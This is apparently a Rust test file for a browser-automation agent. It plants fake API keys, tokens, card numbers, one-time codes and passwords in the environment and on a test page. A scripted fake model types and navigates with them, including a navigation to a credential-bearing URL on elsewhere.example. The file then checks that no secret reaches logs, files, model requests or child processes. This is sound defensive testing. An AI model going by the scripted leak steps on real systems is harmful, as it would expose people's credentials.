//! Secrets stay where they are: a run in whose environment, pages, addresses and dialogs secrets are planted leaves
//! none of them in a file, on standard output or error, in a request to the model, or in a child's environment.
//!
//! Pictures are looked at as bytes only: they show what stood on the screen, as the person saw it.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::response::Html;
use serde_json::json;

use crate::browser::world::{processes_with, said_of, world};
use crate::common::env::TestEnv;
use crate::common::fake_model::{FakeModel, Seen, Step};
use crate::common::serve::serve;

/// Secrets of the environment: names and values.
const VARIABLES: [(&str, &str); 6] = [
    ("ANTHROPIC_API_KEY", "planted-anthropic-key-0a1b2c3d4e"),
    ("OPENAI_API_KEY", "planted-openai-key-5f6a7b8c9d"),
    ("AWS_SECRET_ACCESS_KEY", "planted/aws+secret/Zm9vYmFyYmF6"),
    ("GITHUB_TOKEN", "ghp_plantedplantedplanted0123456789"),
    (
        "DATABASE_URL",
        "postgres://admin:planted-db-pass@db.example/x",
    ),
    ("NPM_TOKEN", "npm_plantedplantedplanted0123456789ab"),
];

/// Secrets of the pages: a line of text and what must not be seen of it.
const LINES: [(&str, &str); 22] = [
    ("Signed in as jane.doe@mail.example.com", "jane.doe@"),
    (
        "Also jane+abo@sub.example.co.uk, and JANE_DOE@EXAMPLE.ORG.",
        "jane+abo@",
    ),
    ("Kontakt: jürgen.groß@beispiel.de", "jürgen.groß@"),
    ("Card 4111 1111 1111 1111 on file", "4111 1111 1111 1111"),
    ("Karte 5500-0000-0000-0004", "5500-0000-0000-0004"),
    ("Amex 378282246310005, valid", "378282246310005"),
    (
        "Pays with 4242\u{a0}4242\u{a0}4242\u{a0}4242",
        "4242\u{a0}4242",
    ),
    ("Your verification code is 492817", "492817"),
    ("739205 is your security code", "739205"),
    ("One-time code: 839 201", "839 201"),
    ("Dein Sicherheitscode lautet 661544", "661544"),
    ("Votre code de vérification : 552761", "552761"),
    ("Tu código de verificación es 318842", "318842"),
    ("SMS code G-771203", "771203"),
    ("CVC 913", "CVC 913"),
    (
        "API key sk-ant-api03-plantedplanted0123",
        "plantedplanted0123",
    ),
    (
        "Key sk_live_plantedPLANTED0123456789",
        "plantedPLANTED0123456789",
    ),
    (
        "Authorization: Bearer planted.bearer-token_0123456789",
        "planted.bearer-token_0123456789",
    ),
    (
        "Session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.c2lnbmF0dXJlcGxhbnRlZA",
        "eyJzdWIiOiJwbGFudGVkIn0",
    ),
    ("Password: planted-Tr0ub4dor&3", "planted-Tr0ub4dor"),
    (
        "See https://jane:planted-url-pass@shop.example/x",
        "planted-url-pass",
    ),
    ("IBAN DE89 3704 0044 0532 0130 00", "3704 0044 0532 0130"),
];

/// Secrets that the attacker's model or the page puts elsewhere.
const ELSEWHERE: [&str; 9] = [
    "planted-query-token-1",
    "planted-link-token-2",
    "planted-fragment-token-3",
    "planted-password-field",
    "planted-session-id-4",
    "dialog.jane@example.com",
    "204816",
    "4000056655665556",
    "title.jane@example.com",
];

fn page() -> String {
    let lines = LINES
        .map(|(line, _)| format!("<p>{}</p>", line.replace('&', "&amp;")))
        .concat();
    format!(
        "<!doctype html><html lang=en><meta charset=utf-8><link rel=icon href=data:,><title>Account of title.jane@example.com</title><h1>Your account</h1>{lines}
        <a href=\"/next?token=planted-link-token-2#access_token=planted-fragment-token-3\">Details for jane.doe@mail.example.com</a>
        <label>Current secret <input type=password value=planted-password-field></label>
        <label>Comment <input name=comment></label>
        <button onclick=\"if (confirm('Send the code 204816 to dialog.jane@example.com? Your code is 204816.')) 0\">Next</button>
        <button disabled>Plan 4 of 6</button><script>document.cookie = 'sid=planted-session-id-4'; console.log('token=planted-query-token-1 jane.doe@mail.example.com')</script>"
    )
}

fn secrets() -> Vec<String> {
    let lines = LINES.iter().map(|(_, secret)| *secret);
    VARIABLES
        .iter()
        .map(|(_, v)| *v)
        .chain(lines)
        .chain(ELSEWHERE)
        .map(str::to_owned)
        .collect()
}

/// Programs and environments of the living processes that belong to this world, without the program's own.
fn environments(mark: &str) -> Vec<(String, String)> {
    let with_environment = |(id, line): (String, String)| {
        let program = line.split(' ').next().unwrap_or_default().to_owned();
        let own = program.ends_with("subterminator");
        Some((program, said_of(&id, "environ")?)).filter(|_| !own)
    };
    let found = processes_with(mark).into_iter();
    found.filter_map(with_environment).collect()
}

fn files_below(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(files_below(&path));
        } else {
            found.push(path);
        }
    }
    found
}

fn planted_world(fake: &FakeModel) -> TestEnv {
    let env = VARIABLES
        .iter()
        .fold(world(), |env, (name, value)| env.set(name, value));
    env.set("ANTHROPIC_BASE_URL", &fake.url())
        .dotenv("SUBTERMINATOR_MODEL=claude-x\n")
}

/// Runs with these options and gives every text that left the program, by where it was found.
fn leaks(options: &[&str], variables: &[(&str, &str)]) -> Vec<String> {
    let site = serve(Router::new().fallback(async || Html(page())));
    let children = Arc::new(Mutex::new(Vec::new()));
    let mark = Arc::new(Mutex::new(String::new()));
    let (keep, own) = (Arc::clone(&children), Arc::clone(&mark));
    let look = Step::with(move |_: &Seen| {
        keep.lock()
            .unwrap()
            .extend(environments(&own.lock().unwrap()));
        Step::call("browser_wait_for", json!({"time": 0}))
    });
    let named = |tool: &'static str, name: &'static str, further: serde_json::Value| {
        Step::with(move |seen: &Seen| {
            let target = seen
                .find(name)
                .unwrap_or_else(|| panic!("{name} is not on the page: {}", seen.page));
            Step::Call(tool.to_owned(), seen.aim(tool, &target, further.clone()))
        })
    };
    let fake = FakeModel::anthropic([
        look,
        named(
            "browser_type",
            "Comment",
            json!({"text": "card 4000056655665556, mail jane.doe@mail.example.com"}),
        ),
        named("browser_click", "Details for", json!({})),
        named(
            "browser_type",
            "secret",
            json!({"text": "planted-password-field"}),
        ),
        Step::text("I saw jane.doe@mail.example.com and the code is 204816."),
        named("browser_click", "Next", json!({})),
        Step::call("browser_handle_dialog", json!({"accept": false})),
        Step::call(
            "browser_navigate",
            json!({"url": "https://user:planted-url-pass@elsewhere.example/?token=planted-query-token-1"}),
        ),
        Step::complete(false),
    ]);
    let env = variables
        .iter()
        .fold(planted_world(&fake), |env, (name, value)| {
            env.set(name, value)
        });
    *mark.lock().unwrap() = env.own().display().to_string();
    let start = format!(
        "{}/?token=planted-query-token-1&sid=planted-session-id-4",
        site.origin()
    );
    let args = [&["cancel", "--url", &start, "--headless"], options].concat();
    let output = env.run_with_input(&args, "n\n");
    assert_eq!(output.code, 1, "{output:#?}");
    fake.assert_clean();
    let requests = fake.requests();
    assert!(
        requests.len() >= 9,
        "the script was played to its end: {output:#?}"
    );
    assert!(
        requests
            .iter()
            .any(|r| r.text.contains("[ref=e") || r.text.contains("ref=e")),
        "references stay"
    );
    assert!(
        requests
            .iter()
            .any(|r| r.text.contains("Plan 4 of 6") && r.text.contains("Details for")),
        "buttons keep their names"
    );
    let children = children.lock().unwrap().clone();
    for program in ["node", "chromium"] {
        assert!(
            children.iter().any(|(name, _)| name.contains(program)),
            "{program} was seen: {:?}",
            children.iter().map(|c| &c.0).collect::<Vec<_>>()
        );
    }
    let mut texts: Vec<(String, String)> = vec![
        ("stdout".to_owned(), output.stdout),
        ("stderr".to_owned(), output.stderr),
    ];
    texts.extend(
        requests
            .iter()
            .enumerate()
            .map(|(i, r)| (format!("request {i}"), format!("{} {}", r.path, r.text))),
    );
    texts.extend(
        children
            .into_iter()
            .map(|(program, environment)| (format!("environment of {program}"), environment)),
    );
    let files = files_below(&env.own())
        .into_iter()
        .filter(|p| !p.components().any(|c| c.as_os_str() == "browser-profile"));
    for file in files {
        let bytes = std::fs::read(&file).unwrap_or_default();
        texts.push((
            file.display().to_string(),
            String::from_utf8_lossy(&bytes).into_owned(),
        ));
    }
    assert!(
        texts
            .iter()
            .any(|(place, _)| place.ends_with("journal.jsonl"))
    );
    let mut found = Vec::new();
    for secret in secrets() {
        for (place, text) in &texts {
            if let Some(at) = text.find(&secret) {
                let start = text.floor_char_boundary(at.saturating_sub(60));
                let end = text.ceil_char_boundary((at + secret.len() + 20).min(text.len()));
                found.push(format!("{secret:?} in {place}: …{}…", &text[start..end]));
            }
        }
    }
    found
}

#[test]
#[ignore = "starts a browser"]
fn no_secret_leaves_a_verbose_run_with_its_log() {
    let found = leaks(&["--verbose"], &[("RUST_LOG", "debug")]);
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
#[ignore = "starts a browser"]
fn no_secret_leaves_a_run_that_prints_json() {
    let found = leaks(&["--json", "--verbose"], &[("RUST_LOG", "trace")]);
    assert!(found.is_empty(), "{found:#?}");
}
